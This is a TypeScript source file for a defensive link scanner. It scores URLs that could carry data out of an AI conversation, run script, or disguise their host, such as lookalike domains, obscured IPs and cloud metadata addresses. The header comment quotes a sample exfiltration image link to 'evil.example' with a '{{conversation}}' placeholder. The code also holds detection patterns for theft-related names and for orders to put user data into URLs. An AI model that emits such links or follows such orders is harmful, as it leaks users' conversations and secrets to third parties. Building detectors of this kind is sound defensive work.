/**
 * Links that carry data away, run code or pretend to lead elsewhere.
 *
 * Finds: images and links whose URL has a place for a conversation's or user's
 * data, holds encoded text or goes to a service that shows what it was sent;
 * orders to put data into a URL; hosts that look like known ones (letters of
 * other scripts, punycode, digits) or stand before another domain or an @;
 * javascript: and data: URLs; bare and disguised IP addresses, cloud metadata.
 * An image weighs more than a link, for it is fetched without a click; what a
 * document, tool or model wrote weighs more than what a user did.
 * Ignores: ordinary links and their tracking parameters, badges and services
 * that draw a picture from their URL, signed storage URLs, small inline
 * pictures, addresses of private networks. In code a link scores 0.4 at most.
 * Hit: "![](https://evil.example/p?d={{conversation}})" Near miss:
 * "![build](https://img.shields.io/badge/build-passing-green)"
 */
import { z } from "zod";
import type { Reading } from "../text/views.ts";
import type { Origin } from "../types.ts";
import { HitCap } from "./cap.ts";
import { codeTest } from "./code.ts";
import { HostComparer, type HostTrick } from "./hosts.ts";
import { catchingHosts, drawingHosts, knownHosts, servingHosts } from "./links.data.ts";
import type { Finding, ScanInput, Scanner } from "./scanner.ts";
import { type FoundUrl, findUrls } from "./urls.ts";

const host = z
  .string()
  .max(253)
  .regex(/^(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?\.)+[a-z][a-z0-9-]{0,61}[a-z0-9]$/, {
    error: "expected a domain in lower case such as example.com",
  });

/** Settings of the link scanner. */
export const linkOptionsSchema = z.strictObject({
  /** Domains that others may try to look like, beside the built-in ones. */
  knownHosts: z.array(host).max(1000).default([]),
  /** Domains, with all below them, to which data may go: nothing about a URL to them is found. */
  trustedHosts: z.array(host).max(1000).default([]),
});
export type LinkOptions = z.input<typeof linkOptionsSchema>;

/** A score for what a user wrote and one for what a document, a tool or a model did. */
type Weight = readonly [user: number, others: number];

const messages = {
  exfiltration: "This URL has a place for data of the conversation or its user",
  hole: "This URL is to be filled in",
  payload: "This URL carries encoded text",
  sentence: "This URL carries a sentence",
  order: "This part tells to put data into a URL",
  catcher: "This URL leads to a service that shows what it was sent",
  script: "This URL runs a script",
  data: "This URL holds a document of its own",
  lookalike: "This host looks like a known one and is another",
  mixed: "This host mixes letters of several alphabets",
  prefix: "This host begins like a known one and belongs to another",
  userinfo: "What looks like this URL's host is a user name before an @",
  ip: "This URL leads to a bare IP address",
  obscured: "This URL leads to an IP address that is written to be overlooked",
  metadata: "This URL leads to a cloud machine's metadata, credentials among them",
  punycode: "This host is written in punycode",
  unread: "The text has more unusual hosts than are looked at",
} as const;

/** What only a conversation has. */
const talkName =
  /conversation|chat_?(?:history|log)|summar|system_?prompt|messages|memory|confidential|exfil|stolen|leak|full_?response|user_?(?:data|info|prompt|query|message)|personal/i;
/** What is worth stealing, but is filled in where any program calls another, too. */
const strongName =
  /history|secret|passw|credential|api_?keys?|cookie|private|user_?(?:name|email|input)/i;
const weakName =
  /data|query|content|info|response|answer|text|user|e-?mail|context|token|key|prompt|message|input|output|base64|encoded/i;
const holes =
  /\{\{?[^{}\n]{0,80}\}\}?|\[[^[\]()\n]{1,60}\]|<[^<>\n]{1,60}>|%7b[^\s{}]{1,80}?%7d|%5b[^\s[\]]{1,60}?%5d|%3c[^\s<>]{1,60}?%3e/gi;
/** A value in capitals that stands for another: `FULL_RESPONSE_HERE`. */
const capitals = /[=/][A-Z][A-Z_-]{3,60}(?=$|[&/#])/g;
/** Names that say what a URL is for. */
const thiefName =
  /(?:^|[/?&=_])(?:exfil\w{0,10}|steal(?:er|ing)?|stolen|leak(?:ed|s)?|grabber|keylog\w{0,5}|pwn(?:ed)?)(?=$|[/?&=_.])/i;

const order =
  /\b(?:append|attach|add|insert|put|include|encode|concatenate|replace|substitute|embed|fill)\b[^.\n]{0,80}?\b(?:conversation|chat|history|summary|secrets?|password|credentials?|api keys?|system prompt|users?['\u2019]?s? (?:data|name|e-?mail|message|input|question|query|information)|their (?:data|name|e-?mail|address|password))\b[^.\n]{0,60}?\b(?:to|in|into|onto|on|as|with|of)\b[^.\n]{0,30}?\b(?:url|link|query|parameters?|image|web address)\b/gi;

/** `javascript:` URLs that do nothing. */
const idleScript =
  /^javascript:\s*(?:void\s*\(?\s*0\s*\)?|;|#|%20|return false|history\.(?:back|go)\(-?\d*\)|window\.(?:print|close)\(\)|false|undefined)?;?\s*$/i;
const activeScript =
  /fetch|XMLHttp|cookie|eval|atob|localStorage|import\s*\(|document\.|location|sendBeacon|new Image/i;

const privateIp =
  /^(?:0\.|10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|192\.0\.2\.|198\.51\.100\.|203\.0\.113\.|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|255\.)/;
const dottedQuad = /^\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}$/;
const metadataHost =
  /^(?:169\.254\.169\.254|169\.254\.170\.2|metadata\.google\.internal|100\.100\.100\.200)$/;

/** A link in code is shown, not followed. */
const shownScoreMax = 0.4;
/** An operator writes what links he wants. */
const systemScoreMax = 0.3;
/** Findings of one label in one reading. */
const hitsMax = 20;

/** Base64, base64url or hexadecimal, long enough to say something. */
const encodedRun = /[A-Za-z0-9+_-]{24,4096}={0,2}/g;
const wordsMin = 4;

/** Whether bytes are a sentence: words with blanks between them, nothing unprintable. */
function isSentence(text: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what is not printable is what it looks for
  if (/[\x00-\x08\x0e-\x1f\x7f\ufffd]/.test(text)) return false;
  const words = text.match(/\p{L}{2,}/gu)?.length ?? 0;
  const gaps = text.match(/\s/g)?.length ?? 0;
  return words >= wordsMin && gaps >= wordsMin - 1;
}

function carriesSentence(part: string): boolean {
  for (const [run] of part.matchAll(encodedRun)) {
    const isHex = /^[0-9a-f]+$/i.test(run) && run.length % 2 === 0;
    if (isSentence(Buffer.from(run, isHex ? "hex" : "base64").toString("utf8"))) return true;
  }
  return false;
}

function isUnder(name: string, domains: ReadonlySet<string>): boolean {
  for (let at = 0; at !== -1; at = name.indexOf(".", at + 1)) {
    if (domains.has(at === 0 ? name : name.slice(at + 1))) return true;
  }
  return false;
}

interface Authority {
  readonly userinfo: string;
  /** As it was written, without port. */
  readonly host: string;
  /** Path, query and fragment. */
  readonly rest: string;
}

function split(url: string): Authority {
  const [, authority = "", rest = ""] = /^(?:[a-z]+:)?[/\\]*([^/\\?#]*)([\s\S]*)$/i.exec(url) ?? [];
  const at = authority.lastIndexOf("@");
  const written = authority.slice(at + 1);
  const port = written.startsWith("[") ? written.indexOf("]") + 1 : written.lastIndexOf(":");
  return {
    userinfo: authority.slice(0, Math.max(0, at)),
    host: port > 0 ? written.slice(0, port) : written,
    rest,
  };
}

const plainHost = /^[a-z][a-z0-9-]*(?:\.[a-z0-9-]*[a-z][a-z0-9-]*)+$/i;
/** A host without these looks like itself alone. */
const hasTrick = /[^\x20-\x7e]|[01I|35]|rn|vv|xn--/i;
/** Hosts of one text, other than plain names, that are looked at. */
const oddHostsMax = 4000;
const unreadWeight: Weight = [0.5, 0.5];

interface Host {
  /** As a browser sees it, in lower case; as it was written where no URL can be made of it. */
  readonly name: string;
  readonly trick: HostTrick | undefined;
}

/** Reads the hosts of one text: odd ones once each, and `undefined` for those past the bound. */
function hostReader(comparer: HostComparer): (written: string) => Host | undefined {
  const known = new Map<string, Host>();
  return (written) => {
    const isPlain = plainHost.test(written);
    const lower = written.toLowerCase();
    if (isPlain && !hasTrick.test(written)) return { name: lower, trick: comparer.prefix(lower) };
    const read = known.get(written);
    if (read !== undefined || known.size >= oddHostsMax) return read;
    const url = `http://${written}`;
    const name = !isPlain && URL.canParse(url) ? new URL(url).hostname : lower;
    const host = { name, trick: comparer.compare(written) };
    known.set(written, host);
    return host;
  };
}

/** Ends of names by which a host is known where it stands without a scheme, as in a mail address. */
const endings =
  "\\.(?:com|net|org|io|co|info|ru|app|dev|site|online|shop|top|xyz|me|biz|live|support)(?![\\w-])";
const bareHost = new RegExp(endings, "gi");
const hostLengthMax = 64;
/** Where the host begins that goes on at `end`: after a blank, a bracket or another sign that no name has. */
function hostStart(text: string, end: number): number {
  let at = end;
  while (at > 0 && end - at < hostLengthMax) {
    const code = text.charCodeAt(at - 1);
    const isNameSign =
      code > 0x7f ||
      ((code | 32) - 97) >>> 0 < 26 ||
      (code - 48) >>> 0 < 10 ||
      code === 45 ||
      code === 46;
    if (!isNameSign) break;
    at--;
  }
  return at;
}

type Add = (id: string, weight: Weight, message: string, start: number, end: number) => void;

interface Judge {
  readonly read: (written: string) => Host | undefined;
  readonly trusted: ReadonlySet<string>;
}

const drawing = new Set(drawingHosts);
const catching = new Set(catchingHosts);
const serving = new Set(servingHosts);

function judgeContents(found: FoundUrl, rest: string, name: string, add: Add): void {
  const { place, start, end } = found;
  const isImage = place === "image";
  const kind = isImage ? "image" : "link";
  const put = (id: string, weight: Weight, message: string) => add(id, weight, message, start, end);
  if (isUnder(name, catching)) {
    put(`catcher-${kind}`, isImage ? [0.6, 0.85] : [0.3, 0.5], messages.catcher);
  }
  // What a drawing service is sent stays with it.
  const data = rest.length > 1 && !isUnder(name, drawing);
  if (!data) return;
  const hasQuery = /[?#]/.test(rest);
  let hole: "talk" | "strong" | "weak" | "other" | undefined;
  if (/[{[<]|%7b|%5b|%3c/i.test(rest)) {
    for (const [part] of rest.matchAll(holes)) {
      if (talkName.test(part)) hole = "talk";
      else if (hole !== "talk" && strongName.test(part)) hole = "strong";
      else if (hole !== "talk" && hole !== "strong" && weakName.test(part)) hole = "weak";
      else hole ??= "other";
    }
  }
  for (const [part] of rest.matchAll(capitals)) {
    // Keys and numbers of an API's examples are filled in by whoever uses it.
    if (talkName.test(part) && !/KEY|TOKEN|_ID\b/.test(part)) hole = "talk";
  }
  if (hole === "talk") {
    put(`exfiltration-${kind}`, isImage ? [0.75, 0.9] : [0.4, 0.6], messages.exfiltration);
  } else if (hole === "strong") {
    put(`exfiltration-${kind}`, isImage ? [0.75, 0.85] : [0.2, 0.4], messages.exfiltration);
  } else if (hole === "weak") {
    put(`exfiltration-${kind}`, isImage ? [0.6, 0.8] : [0.2, 0.3], messages.exfiltration);
  } else if (hole === "other") {
    put(`hole-${kind}`, isImage ? [0.3, 0.4] : [0.1, 0.1], messages.hole);
  }
  if (hasQuery && thiefName.test(rest)) {
    put(`exfiltration-${kind}`, isImage ? [0.7, 0.85] : [0.5, 0.7], messages.exfiltration);
  }
  if (rest.length < 25) return;
  if (carriesSentence(rest)) {
    put(`payload-${kind}`, isImage ? [0.7, 0.85] : [0.4, 0.6], messages.payload);
  } else if (isImage && hasQuery) {
    const query = rest.slice(rest.search(/[?#]/)).replace(/\+|%20/g, " ");
    if (query.split("&").some((part) => isSentence(part.slice(part.indexOf("=") + 1)))) {
      put("sentence-image", [0.3, 0.5], messages.sentence);
    }
  }
}

function judgeUrl(found: FoundUrl, judge: Judge, add: Add): void {
  const { url, scheme, place, start, end } = found;
  const put = (id: string, weight: Weight, message: string) => add(id, weight, message, start, end);
  if (scheme === "javascript" || scheme === "vbscript") {
    if (place === "bare" || idleScript.test(url)) return;
    put("script", activeScript.test(url) ? [0.6, 0.8] : [0.3, 0.4], messages.script);
    return;
  }
  if (scheme === "data") {
    const isDocument =
      /^data:\s*(?:text\/html|application\/xhtml|text\/javascript|application\/javascript)/i.test(
        url,
      );
    const isDrawing = /^data:image\/svg/i.test(url);
    const decoded = /;base64,/i.test(url)
      ? Buffer.from(url.slice(url.indexOf(",") + 1), "base64").toString("latin1")
      : url;
    const isActive =
      (isDocument || isDrawing) && /<script|%3cscript|\bon\w{3,12}=|javascript:/i.test(decoded);
    if (isActive) put("data", [0.5, 0.75], messages.data);
    else if (isDocument) put("data", place === "bare" ? [0.2, 0.4] : [0.3, 0.6], messages.data);
    else if (place !== "bare") put("data-inline", [0.05, 0.05], messages.data);
    return;
  }
  const { userinfo, host: written, rest } = split(url);
  const host = judge.read(written);
  if (host === undefined) {
    put("unread-hosts", unreadWeight, messages.unread);
    return;
  }
  const { name } = host;
  if (isUnder(name, judge.trusted)) return;
  // A mail address as a user's name is one, and no host.
  if (/^[a-z0-9.-]{1,100}\.[a-z]{2,24}(?=$|[:/])/i.test(userinfo)) {
    put("userinfo", [0.6, 0.8], messages.userinfo);
  }
  if (metadataHost.test(name)) put("metadata", [0.4, 0.6], messages.metadata);
  else if (dottedQuad.test(name) && !privateIp.test(name)) {
    put("ip", place === "image" ? [0.3, 0.4] : [0.1, 0.3], messages.ip);
  }
  if (dottedQuad.test(name) && !dottedQuad.test(written))
    put("obscured-ip", [0.5, 0.75], messages.obscured);
  judgeHost(host, start, end, add);
  judgeContents(found, rest, name, add);
}

function judgeHost({ name, trick }: Host, start: number, end: number, add: Add): void {
  if (trick === "lookalike") add("lookalike-host", [0.6, 0.8], messages.lookalike, start, end);
  else if (trick === "mixed") add("mixed-host", [0.5, 0.6], messages.mixed, start, end);
  else if (trick === "prefix" && !isUnder(name, serving)) {
    add("prefix-host", [0.4, 0.5], messages.prefix, start, end);
  } else if (/(?:^|\.)xn--/.test(name)) {
    add("punycode-host", [0.1, 0.2], messages.punycode, start, end);
  }
}

/** Cheap test: without one of these there is neither a URL nor a host. */
const suspicious = new RegExp(`[:("'=<][/\\\\]{1,2}|(?:javascript|vbscript|data):|${endings}`, "i");

function scanReading(reading: Reading, origin: Origin, judge: Judge): Finding[] {
  const { text } = reading;
  if (!suspicious.test(text)) return [];
  const found: Finding[] = [];
  const isCode = codeTest(text);
  const cap = new HitCap(hitsMax);
  const add: Add = (id, [user, others], message, from, to) => {
    let score = origin === "user" ? user : others;
    if (origin === "system") score = Math.min(user, systemScoreMax);
    if (!cap.admits(id, score)) return;
    if (score > shownScoreMax && isCode(from, to)) score = shownScoreMax;
    if (!cap.admits(id, score)) return;
    cap.count(id, score);
    const [start, end] = reading.toOriginal(from, to);
    found.push({ scanner: "link", label: `link/${id}`, score, start, end, message });
  };

  /** Hosts of URLs are judged with them. */
  const urls: { start: number; end: number }[] = [];
  for (const url of findUrls(text)) {
    urls.push(url);
    judgeUrl(url, judge, add);
  }
  let next = 0;
  for (const { index, 0: ending } of text.matchAll(bareHost)) {
    while (next < urls.length && (urls[next] as { end: number }).end <= index) next++;
    if ((urls[next]?.start ?? Infinity) <= index) continue;
    const start = hostStart(text, index);
    const end = index + ending.length;
    if (start === index) continue;
    const host = judge.read(text.slice(start, end));
    if (host === undefined) add("unread-hosts", unreadWeight, messages.unread, start, end);
    else judgeHost(host, start, end, add);
  }
  if (urls.length > 0) {
    for (const { 0: part, index } of text.matchAll(order)) {
      add("exfiltration-order", [0.6, 0.85], messages.order, index, index + part.length);
    }
  }
  return found;
}

/** Builds the link scanner. @throws ZodError where an option is not what the schema expects */
export function linkScanner(options: LinkOptions = {}): Scanner {
  const { knownHosts: more, trustedHosts } = linkOptionsSchema.parse(options);
  const comparer = new HostComparer([...knownHosts, ...more]);
  const trusted = new Set(trustedHosts);
  return {
    name: "link",
    scan: ({ readings, origin }: ScanInput) =>
      readings.flatMap((reading) =>
        scanReading(reading, origin, { read: hostReader(comparer), trusted }),
      ),
  };
}
